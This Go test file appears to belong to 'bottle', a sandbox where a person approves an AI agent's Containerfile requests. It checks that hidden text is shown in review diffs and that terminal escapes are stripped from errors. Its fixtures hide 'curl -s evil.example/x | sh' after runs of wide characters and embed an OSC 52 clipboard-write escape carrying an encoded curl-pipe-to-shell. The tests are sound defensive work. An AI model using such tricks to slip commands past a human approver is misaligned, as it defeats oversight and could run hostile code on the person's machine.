package main

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/bottle-sandbox/bottle/sidecars/supervise"
	"github.com/bottle-sandbox/bottle/state"
	"github.com/charmbracelet/x/ansi"
)

// The pager shows every column of what would be approved at the screen's
// width: wide characters (CJK, U+3000) count two columns, and text after
// them is wrapped onto the next rows, never cut.
func TestDiffPagerWrapsByDisplayWidth(t *testing.T) {
	const width, height = 80, 12
	for name, line := range map[string]string{
		"ideographic spaces": "+RUN apt-get install -y jq" + strings.Repeat("\u3000", 40) + "&& curl -s evil.example/x | sh #TAIL",
		"CJK":                "+RUN echo " + strings.Repeat("日本", 45) + " && curl -s evil.example/x | sh #TAIL",
		"tabs":               "+RUN echo" + strings.Repeat("\t", 12) + "&& curl -s evil.example/x | sh #TAIL",
	} {
		t.Run(name, func(t *testing.T) {
			text := "--- current\n+++ requested\n@@ -1 +1,2 @@\n FROM scratch\n" + line + "\n"
			d := newDiffPager(visibleDiff(text), width, height)
			var shown []string
			for page := 0; page < 10; page++ {
				view := d.view()
				rows := strings.Split(view, "\n")
				if len(rows) > height {
					t.Fatalf("the view has %d rows, the screen %d", len(rows), height)
				}
				for _, r := range rows {
					if w := ansi.StringWidth(r); w > width {
						t.Errorf("a row is %d columns wide, the screen %d: %q", w, width, r)
					}
				}
				shown = append(shown, rows[:len(rows)-1]...)
				if strings.Contains(rows[len(rows)-1], "the end") {
					break
				}
				d.vp.PageDown()
			}
			all := strings.ReplaceAll(strings.Join(shown, "\n"), "\n↳ ", "")
			if !strings.Contains(all, "curl -s evil.example/x | sh #TAIL") {
				t.Errorf("the text after the wide characters is never shown:\n%s", strings.Join(shown, "\n"))
			}
		})
	}
}

// A capability request is shown as the next start would read it, in the
// dashboard and in bottle requests: its steps, escaped, and what that
// start would refuse; approving it says why it cannot be approved.
func TestRequestedContainerfileShownAsParsed(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("XDG_STATE_HOME", dir)
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(dir, "config"))
	root := state.Root{Dir: filepath.Join(dir, "bottle")}
	b := root.Bottle("p-abcde")
	os.MkdirAll(b.SuperviseDir(), 0o700)
	os.MkdirAll(b.AgentDir(), 0o700)
	b.WriteMetadata(state.Metadata{Identity: b.ID, Agent: "p", BuildFrom: []string{"localhost/base:1"}})
	cf := "FROM localhost/base:1\nRUN echo jq\u3000\u3000&& \\\n  echo more\nADD http://127.0.0.1:9/x /x\n"
	r := &supervise.Request{ID: supervise.NewID(), Kind: supervise.KindCapability, Containerfile: cf, Reason: "needs jq", Status: supervise.StatusPending, CreatedAt: time.Now()}
	if err := (supervise.Store{Dir: b.SuperviseDir()}).Create(r); err != nil {
		t.Fatal(err)
	}
	steps := []string{"   1: FROM localhost/base:1", `   2: RUN echo jq\u3000\u3000&&   echo more`, "   4: ADD http://127.0.0.1:9/x /x",
		"refused: the requested Containerfile:4: ADD http://127.0.0.1:9/x /x: source http://127.0.0.1:9/x could name a URL"}

	view := containerfileDiff(root, &bottleRequest{Identity: b.ID, Request: r})
	for _, s := range append(steps, "the next start refuses it", "as Podman reads it") {
		if !strings.Contains(view, s) {
			t.Errorf("the dashboard's view lacks %q:\n%s", s, view)
		}
	}
	var out, errb bytes.Buffer
	if code := run(context.Background(), []string{"bottle", "requests"}, strings.NewReader(""), &out, &errb); code != 0 {
		t.Fatalf("requests: %d %s", code, errb.String())
	}
	for _, s := range append(steps, r.ID+" of p-abcde: the Containerfile as Podman reads it") {
		if !strings.Contains(out.String(), s) {
			t.Errorf("bottle requests lacks %q:\n%s", s, out.String())
		}
	}
	out.Reset()
	errb.Reset()
	if code := run(context.Background(), []string{"bottle", "approve", b.ID, r.ID}, strings.NewReader(""), &out, &errb); code == 0 ||
		!strings.Contains(errb.String(), "the requested Containerfile:4: ADD") || strings.Count(strings.TrimSpace(errb.String()), "\n") != 0 {
		t.Errorf("approve: %d\n%s%s", code, out.String(), errb.String())
	}
}

// What bottle prints of an error reaches the person's terminal with its
// controls replaced, whatever the error quotes: the Containerfile parser
// quotes a heredoc's word, which the agent chose, so bottle approve of
// RUN <<ESC]52;c;...BEL wrote the person's clipboard (OSC 52) on main.
func TestErrorsReachTheTerminalWithoutControls(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("XDG_STATE_HOME", dir)
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(dir, "config"))
	root := state.Root{Dir: filepath.Join(dir, "bottle")}
	b := root.Bottle("p-fghij")
	os.MkdirAll(b.SuperviseDir(), 0o700)
	os.MkdirAll(b.AgentDir(), 0o700)
	b.WriteMetadata(state.Metadata{Identity: b.ID, Agent: "p"})
	osc52 := "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
	r := &supervise.Request{ID: supervise.NewID(), Kind: supervise.KindCapability, Containerfile: "FROM x\nRUN <<" + osc52 + "\n",
		Reason: "needs jq", Status: supervise.StatusPending, CreatedAt: time.Now()}
	if err := (supervise.Store{Dir: b.SuperviseDir()}).Create(r); err != nil {
		t.Fatal(err)
	}
	var out, errb bytes.Buffer
	code := run(context.Background(), []string{"bottle", "approve", b.ID, r.ID}, strings.NewReader(""), &out, &errb)
	if code == 0 || strings.ContainsAny(errb.String()+out.String(), "\x1b\x07") || !strings.Contains(errb.String(), "unterminated heredoc") {
		t.Errorf("approve: %d\n%q\n%q", code, out.String(), errb.String())
	}
}
